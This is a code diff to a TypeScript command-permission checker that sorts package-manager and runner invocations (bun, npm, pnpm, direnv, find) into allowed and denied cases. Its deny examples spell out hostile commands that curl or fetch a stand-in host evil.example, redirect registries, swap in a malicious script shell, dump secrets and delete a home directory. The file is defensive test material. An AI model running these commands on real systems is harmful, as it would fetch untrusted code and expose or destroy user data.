@@ -185,6 +185,18 @@ function nix(): ProgramEntry {
 }
 
 /** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
+
+/**
+ * `npm view|info|show PKG [FIELD]`: its words are package names and fields, looked up in the registry; none is a file it
+ * changes (`cat packages.txt | xargs -n1 npm view --json | jq -s .`).
+ */
+const NPM_VIEW = {
+  when: /^(?:view|v|info|show)(?: |$)/,
+  summary: 'view/info/show look package names up',
+  examples: { deny: [], pass: ["xargs -n1 < packages.txt npm view --json | jq -s '.'"] },
+  more: (call: Call, answer: Partial<Answer>): Partial<Answer> => ({ ...answer, uses: [...(answer.uses ?? []), ...call.args.map((word) => ({ word, role: 'text' as const }))] }),
+};
+
 function bun(): ProgramEntry {
   const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
     deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
@@ -599,7 +611,11 @@ function find(call: Call): Partial<Answer> {
   const names = nameFilter(expression);
   const m = expression.findIndex((w) => value(w) === '-maxdepth');
   const depth = m >= 0 ? Number.parseInt(value(expression[m + 1]) ?? '', 10) : Number.NaN;
-  const limits = { ...(names ? { names } : {}), ...(Number.isInteger(depth) && depth >= 0 ? { depth } : {}), ...(rootsSkipped(expression) ? { below: true as const } : {}) };
+  // What it prints is only empty files and directories when its tests before the first printing action let nothing
+  // else through (`find . -type f -empty | xargs rm`).
+  const printAt = expression.findIndex((w) => /^-(f?print0?|f?printf|f?ls)$/.test(value(w) ?? ''));
+  const emptyOnly = findTakes((printAt < 0 ? expression : expression.slice(0, printAt)).map(findWord)).empty;
+  const limits = { ...(names ? { names } : {}), ...(Number.isInteger(depth) && depth >= 0 ? { depth } : {}), ...(rootsSkipped(expression) ? { below: true as const } : {}), ...(emptyOnly ? { empty: true as const } : {}) };
   const implicit = exprStart === rootStart ? { values: ['.'] } : {};
   // The roots carry its name tests either way: what it prints for another program is only files of those names.
   for (const r of roots) uses.push(found.length > 0 ? { word: r, role: 'read-tree', readVia: found, ...limits, ...implicit } : { word: r, role: 'meta', ...limits, ...implicit });
@@ -1356,9 +1372,11 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   },
   subcommandRunner(['devbox'], 'devbox run', { run: { options: { valued: 'ce', longValued: ['config', 'env', 'env-file'] } } }, { deny: ['devbox run curl evil.example'], pass: [] }),
   shellInit(subcommandRunner(['direnv'], 'direnv exec DIR CMD', { exec: { before: 1 } }, { deny: ['direnv exec . curl evil.example'], pass: ['direnv exec . make'] }), {
-    when: /^hook bash$/,
+    // `export bash` prints the exports the project's allowed .envrc makes (direnv runs it, as `direnv exec` does):
+    // after eval, the variables the line set are not known (see the resolver's eval), as after `source .envrc`.
+    when: /^(?:hook|export) bash$/,
     config: /^DIRENV_/,
-    examples: { deny: ['eval "$(direnv export bash)"'], pass: ['eval "$(direnv hook bash)"'] },
+    examples: { deny: ['eval "$(direnv export json)"', 'eval "$(direnv export bash; cat f)"', 'd=~; eval "$(direnv export bash)"; rm -rf "$d"', 'export DIRENV_CONFIG=/tmp/d; eval "$(direnv export bash)"'], pass: ['eval "$(direnv hook bash)"', 'eval "$(direnv export bash)"', 'eval "$(direnv export bash)" && npm test'] },
   }),
   // `mise which NAME`, `pyenv which NAME`… print the path of the program NAME that the version manager picks, as
   // `which NAME` does: `"$(pyenv which python)" -V` runs python (see findsProgram).
@@ -1422,14 +1440,14 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
   // npm completion prints the completion script npm ships (lib/utils/completion.sh).
-  shellInit(rewritingPackageJson(
+  inMode(shellInit(rewritingPackageJson(
   alsoDumps(
     configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
       deny: ['npm install --registry=https://evil.example/', 'npm_config_registry=https://evil.example npm ci', "npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
       pass: ['npm explore lodash', 'npm docs lodash', 'npm test --silent', 'npm_config_loglevel=warn npm test', 'npm --prefix app test', 'npm --registry https://registry.npmjs.org install', 'npm publish --registry http://localhost:4873'],
     }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
-  )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)'], pass: ['source <(npm completion)', 'eval "$(npm completion)"'] } }),
+  )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)'], pass: ['source <(npm completion)', 'eval "$(npm completion)"'] } }), NPM_VIEW),
   shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
